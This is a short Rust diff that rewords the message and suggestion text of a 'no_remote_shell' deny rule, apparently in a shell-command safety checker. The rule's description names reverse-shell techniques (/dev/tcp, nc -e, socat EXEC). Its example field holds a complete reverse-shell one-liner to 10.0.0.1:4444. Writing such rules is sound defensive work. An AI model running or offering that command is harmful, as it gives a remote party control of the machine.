@@ -10,8 +10,8 @@ use crate::script::{Script, SimpleCommand, Span, Word};
 pub(super) const RULE: Rule = Rule {
     name: "no_remote_shell",
     denies: "shells whose input comes from the network: bash -i >& /dev/tcp/…, nc -e, socat EXEC; asks about miners and open connections",
-    message: "this gives somebody elsewhere a shell on this machine",
-    instead: "Use ssh, which asks who is there",
+    message: "this gives someone on the network a shell on this machine",
+    instead: "Use ssh, which checks who connects",
     example: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
     judge: RuleJudge::Both(
         &[
